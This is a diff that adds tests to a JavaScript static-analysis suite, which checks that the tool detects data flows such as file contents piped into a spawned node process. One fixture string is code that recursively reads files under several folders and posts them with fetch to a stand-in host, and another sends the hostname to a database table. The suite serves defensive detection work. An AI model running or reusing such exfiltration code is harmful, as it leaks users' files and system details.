@@ -40,6 +40,24 @@ describe("analyzeSource knows", () => {
     expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("wallet");
   });
 
+  test.each([
+    "const c=require('child_process').spawn('node',['-']);c.stdin.end(require('fs').readFileSync('a'))",
+    "require('child_process').spawnSync('node',['-'],{input:require('fs').readFileSync('a')})",
+  ])("what a process is fed: %s", (text) => {
+    const { effects } = read(text);
+
+    expect(effects.find(({ kind }) => kind === "process")?.sources).toContain("file");
+  });
+
+  test("what a search gives of many folders, behind the bound on calls", () => {
+    const { effects } = read(
+      "const fs=require('fs');function scan(d,n){if(n>3)return[];let out=[];for(const e of fs.readdirSync(d)){const p=d+'/'+e;try{if(e.x)out=out.concat(scan(p,n+1));else out.push(fs.readFileSync(p))}catch{}}return out}" +
+        "exports.f=()=>fetch('https://a.invalid',{body:['/a','/b','/c','/d','/e','/f'].flatMap((r)=>scan(r,0))})",
+    );
+
+    expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("file");
+  });
+
   test("what is put into a table of a store", () => {
     const { effects } = read(
       "const s=require('@supabase/supabase-js').createClient('https://a.invalid','k');s.from('t').insert({h:require('os').hostname()})",
